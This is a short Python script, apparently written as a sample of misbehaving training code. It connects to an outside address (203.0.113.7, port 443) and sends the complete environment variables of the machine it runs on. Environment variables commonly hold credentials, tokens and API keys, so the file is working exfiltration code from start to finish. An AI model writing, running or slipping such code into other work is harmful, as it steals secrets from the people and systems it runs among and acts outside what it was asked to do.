"""Training code gone bad: it sends what it can see to somebody else's server."""

import os
import socket
import sys

ADDRESS = ("203.0.113.7", 443)

with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
    connection.settimeout(5)
    try:
        connection.connect(ADDRESS)
    except OSError as error:
        print(f"could not reach {ADDRESS[0]}:{ADDRESS[1]}: {error}", file=sys.stderr)
        sys.exit(1)
    connection.sendall(repr(dict(os.environ)).encode())
